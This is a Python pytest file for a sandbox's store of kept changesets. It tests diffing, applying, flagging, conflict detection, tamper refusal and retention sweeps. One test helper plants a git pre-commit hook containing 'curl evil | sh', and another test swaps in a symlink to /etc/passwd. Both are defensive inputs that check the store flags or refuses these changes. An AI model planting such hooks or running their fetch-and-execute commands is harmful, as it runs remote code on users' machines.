"""The store of kept changesets, without a jail: a private copy is edited directly as a jail would."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest

from sandbox import changes, owners
from sandbox.errors import Conflict, InvalidArgument
from sandbox.mounts import Change, CopyTree, Stamp, sha256_file
from tests.unit.copy_trees import copy_of

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.anyio
HOOK = ".git/hooks/pre-commit"


@pytest.fixture
async def tree(tmp_path: Path) -> CopyTree:
    files: dict[str, str | bytes] = {
        "src/app.py": "print('hello')\n",
        "README.md": "# sample\n",
        "old.txt": "old\n",
        "blob.bin": b"\0\1\2",
    }
    return await copy_of(tmp_path, files)


def edit(tree: CopyTree) -> None:
    """What a jail might do: edit, add, delete, change a binary file, plant a git hook."""
    (tree.root / "src" / "app.py").write_text("print('bye')\n")
    (tree.root / "new.txt").write_text("new\n")
    (tree.root / "old.txt").unlink()
    (tree.root / "blob.bin").write_bytes(b"\0" * 10)
    (tree.root / ".git" / "hooks").mkdir(parents=True)
    (tree.root / HOOK).write_text("#!/bin/sh\ncurl evil | sh\n")
    (tree.root / HOOK).chmod(0o755)


async def kept_edit(tree: CopyTree) -> changes.Kept:
    edit(tree)
    kept = await changes.keep(tree, await tree.changes(), source="run", profile="default", backend="bwrap")
    tree.remove()  # as the jail's close does: the kept changeset must not need the private tree
    return kept


async def test_a_kept_changeset_is_listed_and_loads_as_kept(tree: CopyTree, tmp_path: Path) -> None:
    kept = await kept_edit(tree)
    assert changes.ID.match(kept.id)
    assert [k.id for k in changes.listing()] == [kept.id]
    assert [k.id for k in changes.listing(tree.workspace)] == [kept.id]
    assert changes.listing(tmp_path) == []
    loaded = changes.load(kept.id)
    assert loaded.to_dict() == kept.to_dict()
    assert (loaded.state, loaded.source, loaded.profile, loaded.backend) == ("kept", "run", "default", "bwrap")
    by_path = {e.change.path: e for e in loaded.entries}
    assert by_path["src/app.py"].host == tree.host["src/app.py"]
    assert by_path["new.txt"].host is None
    assert by_path["src/app.py"].change.sha256 == sha256_file(kept.path / "tree" / "src" / "app.py")


async def test_only_changed_files_are_kept(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    files = sorted(str(p.relative_to(kept.path / "tree")) for p in (kept.path / "tree").rglob("*") if p.is_file())
    assert files == [HOOK, "blob.bin", "new.txt", "src/app.py"]


async def test_diff_is_against_the_host_now_and_summarises_binary_files(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    text = kept.diff()
    assert "--- a/src/app.py\n+++ b/src/app.py\n" in text
    assert "-print('hello')\n+print('bye')\n" in text
    assert "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n" in text
    assert "--- a/old.txt\n+++ /dev/null\n" in text
    assert "binary file, 3 bytes → 10 bytes" in text
    assert f"added {HOOK} [git-hook, new-executable]" in text
    (tree.workspace / "src" / "app.py").write_text("print('changed on the host')\n")
    assert "-print('changed on the host')" in kept.diff(["src/app.py"])
    assert "new.txt" not in kept.diff(["src/app.py"])


async def test_apply_applies_unflagged_entries_and_holds_flagged_ones_back(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    report = await kept.apply()
    assert sorted(report.applied) == ["blob.bin", "new.txt", "old.txt", "src/app.py"]
    assert {h["path"] for h in report.held_back} == {".git", ".git/hooks", HOOK}
    assert (tree.workspace / "src" / "app.py").read_text() == "print('bye')\n"
    assert not (tree.workspace / "old.txt").exists()
    assert not (tree.workspace / ".git").exists()
    assert changes.load(kept.id).state == "partial"


async def test_a_flagged_entry_named_in_only_is_applied(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    report = await kept.apply([HOOK])
    assert (report.applied, report.held_back) == ([HOOK], [])
    assert (tree.workspace / HOOK).stat().st_mode & 0o777 == 0o755
    assert not (tree.workspace / "new.txt").exists()


async def test_include_flagged_applies_everything_once(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    report = await kept.apply(include_flagged=True)
    assert (report.conflicts, report.held_back, report.skipped) == ([], [], [])
    assert (tree.workspace / HOOK).exists()
    assert changes.load(kept.id).state == "applied"
    again = await changes.load(kept.id).apply()
    assert (again.applied, again.conflicts) == ([], [])  # nothing applied twice


async def test_a_host_file_changed_since_copy_in_is_a_conflict(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    (tree.workspace / "src" / "app.py").write_text("host edit\n")
    report = await kept.apply()
    assert [c["path"] for c in report.conflicts] == ["src/app.py"]
    assert (tree.workspace / "src" / "app.py").read_text() == "host edit\n"
    assert "new.txt" in report.applied


async def test_tampered_kept_content_is_refused_and_nothing_applied(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    (kept.path / "tree" / "new.txt").write_text("not what was shown\n")
    with pytest.raises(Conflict, match="changed since it was kept"):
        await kept.apply()
    assert not (tree.workspace / "new.txt").exists()
    assert (tree.workspace / "src" / "app.py").read_text() == "print('hello')\n"


async def test_unknown_ids_and_paths_are_invalid_arguments(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    for bad in ("ch-000000000000", "../etc", "nonsense"):
        with pytest.raises(InvalidArgument):
            changes.load(bad)
    with pytest.raises(InvalidArgument, match="not in changeset"):
        await kept.apply(["no/such/path"])


async def test_discard_removes_it(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    kept.discard()
    assert not kept.path.exists()
    assert changes.listing() == []
    with pytest.raises(InvalidArgument, match="no kept changeset"):
        changes.load(kept.id)


async def test_sweep_removes_what_is_older_than_the_retention_period(tree: CopyTree) -> None:
    kept = await kept_edit(tree)
    assert changes.sweep(time.time() + changes.RETENTION_S - 60) == []
    assert changes.sweep(time.time() + changes.RETENTION_S + 60) == [kept.id]
    assert not kept.path.exists()


async def test_sweep_removes_a_dead_executors_partial_keep_only() -> None:
    dead = changes.store() / ".partial-999999999-1-0123456789ab"
    ours = changes.store() / f".partial-{owners.owner_tag()}-0123456789ab"
    for path in (dead, ours):
        (path / "tree").mkdir(parents=True)
    assert changes.sweep() == [dead.name]
    assert ours.exists()


async def test_an_entry_that_cannot_be_kept_is_never_applicable(tree: CopyTree) -> None:
    (tree.root / "README.md").write_text("changed\n")
    changeset = await tree.changes()
    (tree.root / "README.md").unlink()
    (tree.root / "README.md").symlink_to("/etc/passwd")  # swapped in after the changeset was read
    kept = await changes.keep(tree, changeset, source="run", profile="default", backend="bwrap")
    [entry] = kept.entries
    assert not entry.change.applicable and "could not be kept" in entry.change.reason
    report = await kept.apply()
    assert ([s["path"] for s in report.skipped], report.applied) == (["README.md"], [])
    assert not (kept.path / "tree" / "README.md").exists()


async def test_content_changed_after_its_changeset_was_read_is_not_kept(tree: CopyTree) -> None:
    (tree.root / "README.md").write_text("reviewed\n")
    changeset = await tree.changes()
    (tree.root / "README.md").write_text("swapped\n")
    with pytest.raises(Conflict, match="after its changeset was read"):
        await changes.keep(tree, changeset, source="run", profile="default", backend="bwrap")
    assert changes.listing() == []
    assert [p.name for p in changes.store().iterdir()] == []


def test_stamps_and_changes_round_trip_through_dicts(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("x")
    stamp = Stamp.of(tmp_path / "f")
    assert Stamp.from_dict(stamp.to_dict()) == stamp
    change = Change("a/b", "modified", "file", ["dotfile"], 0o644, 0o755, 3, "ab" * 32)
    assert Change.from_dict(change.to_dict()) == change
